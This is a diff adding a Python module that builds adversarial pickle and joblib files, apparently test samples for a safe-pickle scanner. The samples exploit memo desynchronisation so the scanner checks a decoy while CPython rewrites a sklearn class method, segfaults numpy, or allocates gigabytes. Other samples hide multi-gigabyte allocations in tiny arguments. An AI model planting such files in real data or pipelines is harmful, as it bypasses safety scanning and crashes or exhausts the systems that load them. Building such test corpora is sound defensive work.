@@ -1,0 +1,124 @@
+"""§6 (round 2): the walker's machine model and allocation hidden in small arguments.
+
+* Memo desynchronisation: a vocabulary run (>= 8 ``SHORT_BINUNICODE, MEMOIZE, BININT1``
+  entries) is read back with BINGET. The round-1 walker then counted the run's memo slots
+  twice, so every later MEMOIZE landed 8 slots away from CPython's: a BINGET fetched, for
+  CPython, the object the attacker wanted and, for the walker, a harmless decoy. Each sample
+  aims a walker-only check at the decoy while CPython acts on the real object.
+* Allocation: arguments of a few bytes that make an allowed name allocate gigabytes (a
+  subarray dtype in a reconstruction placeholder, NEWOBJ arguments of ``ndarray``, a
+  materialising callable over ``range``).
+"""
+
+from __future__ import annotations
+
+import zlib
+
+import craft as C
+from craft import CRASH, MEMORY, Raw, Sample, binget, call, check, i, pk, sglob, tup, u
+
+SECTION = "6"
+_RUN = 8  # entries in the vocabulary run (the walker takes runs of >= 8 in one step)
+
+
+def _desync_prefix() -> bytes:
+    """A dict filled by one vocabulary run (memo slots 0..8), then a read into the run."""
+    entries = b"".join(u(f"w{k}") + C.MEMOIZE + i(k) for k in range(_RUN))
+    return C.EMPTY_DICT + C.MEMOIZE + C.MARK + entries + C.SETITEMS + binget(1) + C.POP + C.POP
+
+
+def _decoy_then(target: bytes, decoy: bytes) -> bytes:
+    """``decoy`` memoized first (CPython slot 9, round-1 walker slot 17), seven fillers, then ``target``
+    (CPython slot 17): ``BINGET 17`` gives CPython the target and the round-1 walker the decoy."""
+    fillers = b"".join(C.NONE + C.MEMOIZE + C.POP for _ in range(7))
+    return _desync_prefix() + decoy + C.MEMOIZE + C.POP + fillers + target + C.MEMOIZE + C.POP + binget(17)
+
+
+_INTERVAL = sglob("sklearn._loss.link", "Interval") + C.EMPTY_TUPLE + C.NEWOBJ  # an inert NEW instance
+_PWN = "safeload-pwned"
+
+
+def _desync_build_class() -> bytes:
+    target = sglob("sklearn._loss.loss", "HalfSquaredError")
+    body = _decoy_then(target, _INTERVAL) + tup(None, {"loss": _PWN}) + C.BUILD
+    return pk(body, framed=False)
+
+
+def _desync_object_array() -> bytes:
+    placeholder = call(sglob(*C.RECONSTRUCT), Raw(sglob("numpy", "ndarray")), (0,), b"b")
+    state = tup(1, (64,), Raw(C.np_dtype("O8", C.DT_OBJ)), False, [1, 2, 3])
+    return pk(_decoy_then(placeholder, _INTERVAL) + state + C.BUILD, framed=False)
+
+
+def _desync_call_new_class() -> bytes:
+    target = sglob("scipy.sparse._csr", "csr_matrix")
+    decoy = sglob("builtins", "complex")  # a CALL entry: calling it is allowed
+    return pk(_decoy_then(target, decoy) + tup((10**9, 10**9)) + C.REDUCE, framed=False)
+
+
+def samples() -> list[Sample]:
+    out: list[Sample] = []
+    out.append(Sample(
+        "s6_memo_desync_build_class.pkl", "memo-desync-build-class", SECTION,
+        "A BINGET into a vocabulary run desynchronised the round-1 walker's memo; BINGET 17 then gave CPython "
+        "the class HalfSquaredError and the walker an inert instance, so BUILD (None, {...}) rewrote a method "
+        "process-wide while scan said safe.",
+        _desync_build_class(), "pickle",
+        check(f"__import__('sklearn._loss.loss', fromlist=['_']).HalfSquaredError.__dict__.get('loss') == {_PWN!r}"),
+        global_="sklearn._loss.loss.HalfSquaredError",
+    ))
+    out.append(Sample(
+        "s6_memo_desync_object_array.pkl", "memo-desync-object-array", SECTION,
+        "Memo desynchronisation aims the walker's object-array check at a decoy while CPython BUILDs a 64-element "
+        "object array from a 3-item list: numpy reads pointers past the list (segfault).",
+        _desync_object_array(), "pickle", CRASH,
+    ))
+    out.append(Sample(
+        "s6_memo_desync_call_csr.pkl", "memo-desync-call-new-class", SECTION,
+        "Memo desynchronisation: the walker saw builtins.complex called, CPython called the NEW-only class "
+        "scipy.sparse.csr_matrix((10**9, 10**9)), which allocates an 8 GB index array.",
+        _desync_call_new_class(), "pickle", MEMORY, global_="scipy.sparse._csr.csr_matrix",
+    ))
+    out.append(Sample(
+        "s6_memo_desync_call_csr.joblib", "memo-desync-call-new-class-zlib", SECTION,
+        "The same memo desynchronisation inside a zlib-compressed joblib file.",
+        zlib.compress(_desync_call_new_class(), 9), "joblib-zlib", MEMORY,
+        global_="scipy.sparse._csr.csr_matrix", loader="joblib",
+    ))
+    subarray = call(sglob("numpy", "dtype"), "(200000000,)O")
+    out.append(Sample(
+        "s6_reconstruct_subarray_dtype.pkl", "alloc-reconstruct-subarray-dtype", SECTION,
+        "_reconstruct(ndarray, (1,), dtype('(2*10**8,)O')): the placeholder guard counted only the shape; "
+        "the subarray dtype makes numpy allocate 1.6 GB for one element.",
+        pk(call(sglob(*C.RECONSTRUCT), Raw(sglob("numpy", "ndarray")), (1,), Raw(subarray))), "pickle", MEMORY,
+        error="LimitExceededError",
+    ))
+    out.append(Sample(
+        "s6_newobj_ndarray_shape.pkl", "alloc-newobj-ndarray-shape", SECTION,
+        "NEWOBJ numpy.ndarray with arguments ((2**33,), 'u1'): ndarray.__new__ allocates 8 GB; real pickles "
+        "never pass arguments to the __new__ of a NEW-only class.",
+        pk(sglob("numpy", "ndarray") + tup((2**33,), "u1") + C.NEWOBJ), "pickle", MEMORY, global_="numpy.ndarray",
+    ))
+    for name, module, qual in (("set", "builtins", "set"), ("frozenset", "builtins", "frozenset"),
+                               ("counter", "collections", "Counter")):
+        rng = call(sglob("builtins", "range"), 10**9)
+        out.append(Sample(
+            f"s6_materialise_{name}_range.pkl", f"alloc-materialise-{name}-range", SECTION,
+            f"{module}.{qual}(range(10**9)): a lazy range costs the file a few bytes; materialising it allocates "
+            "tens of gigabytes.",
+            pk(call(sglob(module, qual), Raw(rng))), "pickle", MEMORY, error="LimitExceededError",
+        ))
+    out.append(Sample(
+        "s6_reconstructor_frozenset_range.pkl", "alloc-reconstructor-frozenset-range", SECTION,
+        "copyreg._reconstructor(frozenset, frozenset, range(10**9)): frozenset.__new__ materialises the range.",
+        pk(call(sglob("copyreg", "_reconstructor"), Raw(sglob("builtins", "frozenset")),
+                Raw(sglob("builtins", "frozenset")), Raw(call(sglob("builtins", "range"), 10**9)))),
+        "pickle", MEMORY, error="LimitExceededError",
+    ))
+    out.append(Sample(
+        "s6_randomstate_range_seed.pkl", "alloc-randomstate-range-seed", SECTION,
+        "numpy.random.RandomState(range(10**9)): the legacy seeding turns the seed into an 8 GB array.",
+        pk(call(sglob("numpy.random.mtrand", "RandomState"), Raw(call(sglob("builtins", "range"), 10**9)))),
+        "pickle", MEMORY, error="LimitExceededError",
+    ))
+    return out
